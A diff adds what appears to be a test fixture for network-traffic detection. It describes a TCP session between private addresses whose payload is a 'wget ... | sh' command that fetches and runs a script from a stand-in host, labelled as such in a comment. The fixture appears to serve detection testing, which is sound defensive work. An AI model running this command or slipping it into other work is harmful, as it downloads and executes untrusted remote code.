@@ -1,0 +1,7 @@
+# downloaded script piped into a shell by wget.
+proto tcp
+client 10.0.0.1:40000
+server 10.0.0.2:6000
+
+>>>
+wget -q -O - http://198.51.100.7/a.sh | sh\n
